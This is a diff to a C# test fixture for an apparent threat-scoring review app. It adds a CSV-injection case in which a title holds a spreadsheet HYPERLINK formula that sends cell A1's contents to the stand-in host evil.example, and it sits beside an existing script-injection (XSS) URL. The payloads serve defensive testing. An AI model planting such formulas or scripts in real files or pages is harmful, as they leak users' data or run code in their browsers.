@@ -21,6 +21,9 @@ public sealed class ReviewAppFixture : IAsyncLifetime, IDisposable
 
     public const string XssUrl = "https://news.example/x?q=\"><script>alert(3)</script>";
 
+    /// <summary>A title a spreadsheet would run as a formula (CSV injection).</summary>
+    public const string FormulaTitle = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Open report\")";
+
     private readonly TempDirectory _dir = new();
     private WebApplication? _app;
 
@@ -33,6 +36,8 @@ public sealed class ReviewAppFixture : IAsyncLifetime, IDisposable
     public string SeedId { get; private set; } = null!;
 
     public string XssId { get; private set; } = null!;
+
+    public string FormulaId { get; private set; } = null!;
 
     public int ScoredCount { get; private set; }
 
@@ -60,6 +65,18 @@ public sealed class ReviewAppFixture : IAsyncLifetime, IDisposable
                 + "Russia pledged support to Tajikistan against the Taliban threat.",
         };
         await File.WriteAllTextAsync(Path.Combine(inbox, "xss.json"), JsonSerializer.Serialize(xss));
+        var formula = new
+        {
+            id = "formula-1",
+            title = FormulaTitle,
+            url = "https://news.example/formula",
+            source = "@SUM(1+1)",
+            language = "en",
+            published_at = "2026-11-21T08:00:00Z",
+            text = "Armed men attacked a police station in the north of Mali on Tuesday, officials said. "
+                + "The army sent reinforcements to the region after the assault, and the United Nations called for calm.",
+        };
+        await File.WriteAllTextAsync(Path.Combine(inbox, "formula.json"), JsonSerializer.Serialize(formula));
 
         using (var host = ThreatScorerHost.CreateBuilder(
         [
@@ -90,6 +107,10 @@ public sealed class ReviewAppFixture : IAsyncLifetime, IDisposable
             else if (title == XssTitle)
             {
                 XssId = row.GetProperty("id").GetString()!;
+            }
+            else if (title == FormulaTitle)
+            {
+                FormulaId = row.GetProperty("id").GetString()!;
             }
         }
     }
